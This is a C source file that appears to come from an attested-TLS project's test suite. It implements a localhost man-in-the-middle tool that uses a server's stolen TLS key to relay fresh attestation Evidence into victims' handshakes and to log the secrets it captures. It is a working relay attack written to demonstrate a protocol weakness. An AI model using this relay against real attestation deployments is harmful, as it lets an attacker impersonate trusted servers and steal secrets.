/*
 * intra_attacker: the man in the middle of scripts/attack-demo, as a program (atls ships no
 * attack tool; this one lives with the attack tests and is not installed). It holds the genuine
 * server's stolen TLS key and certificate and no attestation key, on 127.0.0.1:
 *
 *   intra_attacker relay-intra --listen PORT --upstream PORT --mode ra-only|x509 --binder N
 *                  --cert FILE --key FILE --evidence-type MEDIA [--ca FILE --servername NAME]
 *       against the INSECURE baseline: every victim handshake makes A open its own handshake to
 *       S1 with the victim's nonce and hand S1's fresh Evidence on (intra_relay.c)
 *   intra_attacker relay-atls --listen PORT --upstream PORT --cert FILE --key FILE
 *       against atls: every victim REQUEST makes A fetch S1's fresh Evidence over the victim's
 *       request context and answer with a valid authenticator around it (atls_mitm.c)
 *
 * Prints one line per event ("A: ...") on stdout and runs until SIGINT/SIGTERM.
 */
#include "atls_mitm.h"
#include "intra_lab.h"
#include "intra_relay.h"

#include <getopt.h>
#include <openssl/pem.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
    (void)sig;
    stop = 1;
}

static intra_relay relay;
static pthread_mutex_t print_lock = PTHREAD_MUTEX_INITIALIZER;

/* the relay, saying what it did */
static atls_error loud_relay(void *arg, SSL *ssl, const atls_intra_insecure_binder_inputs *in,
                             const uint8_t challenge[ATLS_CHALLENGE_LEN], uint8_t **cmw,
                             size_t *cmw_len)
{
    atls_error rc = intra_relay_evidence(arg, ssl, in, challenge, cmw, cmw_len);
    pthread_mutex_lock(&print_lock);
    if (rc == ATLS_OK) {
        printf("A: opened my own handshake to S1 with the victim's nonce%s and relayed S1's "
               "fresh Evidence (%zu bytes) into the victim's handshake\n",
               relay.forward_client_random ? " and client random" : "", *cmw_len);
    } else {
        printf("A: the relay to S1 failed: %s\n", atls_error_message());
    }
    fflush(stdout);
    pthread_mutex_unlock(&print_lock);
    return rc;
}

static int load(const char *cert_path, const char *key_path, X509 **cert, EVP_PKEY **key)
{
    FILE *f = fopen(cert_path, "r");
    *cert = f != NULL ? PEM_read_X509(f, NULL, NULL, NULL) : NULL;
    if (f != NULL) {
        fclose(f);
    }
    f = fopen(key_path, "r");
    *key = f != NULL ? PEM_read_PrivateKey(f, NULL, NULL, NULL) : NULL;
    if (f != NULL) {
        fclose(f);
    }
    if (*cert == NULL || *key == NULL) {
        fprintf(stderr, "intra_attacker: cannot read --cert %s / --key %s\n", cert_path, key_path);
        return -1;
    }
    return 0;
}

/* watch prints what reached A until a signal */
static void watch(intra_lab_server *srv, atls_mitm *m)
{
    int seen_secrets = 0, seen_answers = 0, seen_errors = 0;
    while (!stop) {
        struct timespec ts = {0, 50000000L};
        nanosleep(&ts, NULL);
        pthread_mutex_lock(&srv->mu);
        int secrets = srv->secrets_read;
        char secret[LAB_SECRET_MAX];
        memcpy(secret, srv->secret, sizeof(secret));
        int answers = m != NULL ? m->answers : 0, errors = m != NULL ? m->victim_errors : 0;
        char reason[300] = "";
        if (m != NULL) {
            memcpy(reason, m->victim_reason, sizeof(reason));
        }
        pthread_mutex_unlock(&srv->mu);
        pthread_mutex_lock(&print_lock);
        if (answers > seen_answers) {
            printf("A: fetched S1's fresh Evidence over the victim's request context and sent "
                   "the victim a valid authenticator around it (signed with the stolen key)\n");
        }
        if (errors > seen_errors) {
            printf("A: the victim refused: %s\n", reason);
        }
        if (secrets > seen_secrets) {
            printf("A: read the victim's secret: \"%s\"\n", secret);
        }
        fflush(stdout);
        pthread_mutex_unlock(&print_lock);
        seen_secrets = secrets, seen_answers = answers, seen_errors = errors;
    }
}

int main(int argc, char **argv)
{
    static const struct option opts[] = {
        {"listen", required_argument, NULL, 'l'}, {"upstream", required_argument, NULL, 'u'},
        {"mode", required_argument, NULL, 'm'},   {"binder", required_argument, NULL, 'b'},
        {"cert", required_argument, NULL, 'c'},   {"key", required_argument, NULL, 'k'},
        {"ca", required_argument, NULL, 'a'},     {"servername", required_argument, NULL, 's'},
        {"evidence-type", required_argument, NULL, 't'}, {NULL, 0, NULL, 0}};
    if (argc < 2 || (strcmp(argv[1], "relay-intra") != 0 && strcmp(argv[1], "relay-atls") != 0)) {
        fprintf(stderr, "usage: intra_attacker relay-intra|relay-atls OPTIONS (see the source)\n");
        return 2;
    }
    int intra = strcmp(argv[1], "relay-intra") == 0;
    int listen_port = 0, upstream = 0, c;
    const char *mode = "x509", *binder = "6", *cert_path = NULL, *key_path = NULL, *ca = NULL;
    const char *servername = NULL, *type = NULL;
    optind = 2;
    while ((c = getopt_long(argc, argv, "", opts, NULL)) != -1) {
        switch (c) {
        case 'l': listen_port = atoi(optarg); break;
        case 'u': upstream = atoi(optarg); break;
        case 'm': mode = optarg; break;
        case 'b': binder = optarg; break;
        case 'c': cert_path = optarg; break;
        case 'k': key_path = optarg; break;
        case 'a': ca = optarg; break;
        case 's': servername = optarg; break;
        case 't': type = optarg; break;
        default: return 2;
        }
    }
    X509 *cert = NULL;
    EVP_PKEY *key = NULL;
    if (listen_port <= 0 || upstream <= 0 || cert_path == NULL || key_path == NULL ||
        load(cert_path, key_path, &cert, &key) != 0) {
        fprintf(stderr, "intra_attacker: --listen, --upstream, --cert and --key are required\n");
        return 2;
    }
    signal(SIGPIPE, SIG_IGN);
    struct sigaction sa;
    memset(&sa, 0, sizeof(sa));
    sa.sa_handler = on_signal;
    sigaction(SIGINT, &sa, NULL);
    sigaction(SIGTERM, &sa, NULL);
    int rc = 0;
    if (intra) {
        /* an attester name stands for its media type */
        const atls_attester_ops *named = type != NULL ? atls_attester_ops_by_name(type) : NULL;
        if (named != NULL) {
            type = atls_attester_media_type(named);
        }
        X509_STORE *store = X509_STORE_new();
        if (ca != NULL && X509_STORE_load_file(store, ca) != 1) {
            fprintf(stderr, "intra_attacker: cannot read --ca %s\n", ca);
            return 2;
        }
        relay = (intra_relay){.upstream_port = upstream,
                              .mode = atls_intra_insecure_mode_parse(mode),
                              .binder = atls_intra_insecure_binder_parse(binder),
                              .media_type = type, .trust = store, .hostname = servername};
        relay.forward_client_random = relay.binder == ATLS_INTRA_INSECURE_BINDER_CR;
        atls_intra_insecure_config cfg;
        memset(&cfg, 0, sizeof(cfg));
        cfg.mode = relay.mode;
        cfg.binder = relay.binder;
        cfg.evidence_cb = loud_relay;
        cfg.evidence_cb_arg = &relay;
        cfg.evidence_media_type = type;
        SSL_CTX *ctx = type != NULL ? intra_lab_server_ctx(&cfg, cert, key) : NULL;
        intra_lab_server srv;
        memset(&srv, 0, sizeof(srv));
        if (ctx == NULL || intra_lab_server_start_on(&srv, ctx, listen_port) != 0) {
            fprintf(stderr, "intra_attacker: cannot serve on %d\n", listen_port);
            return 2;
        }
        printf("A: listening on 127.0.0.1:%d with S1's stolen TLS key; no attestation key\n",
               listen_port);
        fflush(stdout);
        watch(&srv, NULL);
        intra_lab_server_stop(&srv);
        SSL_CTX_free(ctx);
        X509_STORE_free(store);
    } else {
        atls_mitm m;
        if (atls_mitm_start_on(&m, ATLS_MITM_RELAY, cert, key, upstream, listen_port) != 0) {
            fprintf(stderr, "intra_attacker: cannot serve on %d\n", listen_port);
            return 2;
        }
        printf("A: listening on 127.0.0.1:%d with S1's stolen TLS key; no attestation key\n",
               listen_port);
        fflush(stdout);
        watch(&m.srv, &m);
        atls_mitm_stop(&m);
    }
    X509_free(cert);
    EVP_PKEY_free(key);
    return rc;
}
